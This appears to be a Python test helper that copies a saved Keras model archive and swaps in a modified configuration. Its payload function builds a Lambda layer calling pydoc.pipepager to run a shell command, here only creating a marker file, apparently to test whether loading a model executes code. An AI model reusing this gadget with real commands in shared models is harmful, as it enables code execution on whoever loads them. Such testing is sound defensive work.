"""Saved Keras models with another configuration, such as one that would run a command."""

from __future__ import annotations

import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

Config = dict[str, Any]


def rewritten(path: Path, target: Path, change: Callable[[Config], object]) -> Path:
    """A copy of a .keras file with its configuration changed."""
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(target, "w") as new:
        for name in old.namelist():
            content = old.read(name)
            if name == "config.json":
                config = json.loads(content)
                changed = change(config)
                content = json.dumps(changed if isinstance(changed, dict) else config).encode()
            new.writestr(name, content)
    return target


def payload(marker: Path) -> Config:
    """A function of Python's own that runs a command, as Keras names functions."""
    return {
        "class_name": "Lambda",
        "module": "keras.layers",
        "registered_name": None,
        "config": {
            "name": "evil",
            "function": "pipepager",
            "function_type": "function",
            "module": "pydoc",
            "arguments": {"cmd": f"touch {marker}"},
        },
    }
